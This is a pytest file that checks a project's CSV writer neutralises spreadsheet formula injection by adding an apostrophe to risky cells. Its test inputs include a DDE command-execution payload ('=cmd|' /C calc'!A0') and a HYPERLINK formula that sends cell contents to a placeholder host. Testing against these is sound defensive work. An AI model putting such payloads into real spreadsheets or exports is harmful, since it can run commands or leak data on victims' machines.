"""Formula neutralisation for the CSV the project writes (issue #14)."""

from __future__ import annotations

import csv
import io

import pytest

from bot.core.spreadsheet import FORMULA_STARTS, safe_cell, safe_row, safe_rows


@pytest.mark.parametrize(
    "value",
    [
        "=cmd|' /C calc'!A0",
        '+HYPERLINK("http://example.invalid/?x="&A1, "click")',
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_formulas_get_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Ann", "", "'=already", " =spaced", "-5", "+3.5", "-12%", "1e3"]
)
def test_other_text_and_plain_numbers_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_non_text_cells_are_unchanged() -> None:
    assert safe_row([None, 5, -5, 1.5, "x"]) == [None, 5, -5, 1.5, "x"]


def test_a_written_csv_reads_back_with_no_cell_starting_like_a_formula() -> None:
    rows = [("name", "=cmd|x"), ("cause", "+HYPERLINK(1)"), ("delta", "-4")]
    out = io.StringIO()
    csv.writer(out).writerows(safe_rows(rows))
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert cells == ["name", "'=cmd|x", "cause", "'+HYPERLINK(1)", "delta", "-4"]
    assert not any(c.startswith(FORMULA_STARTS) and c != "-4" for c in cells)
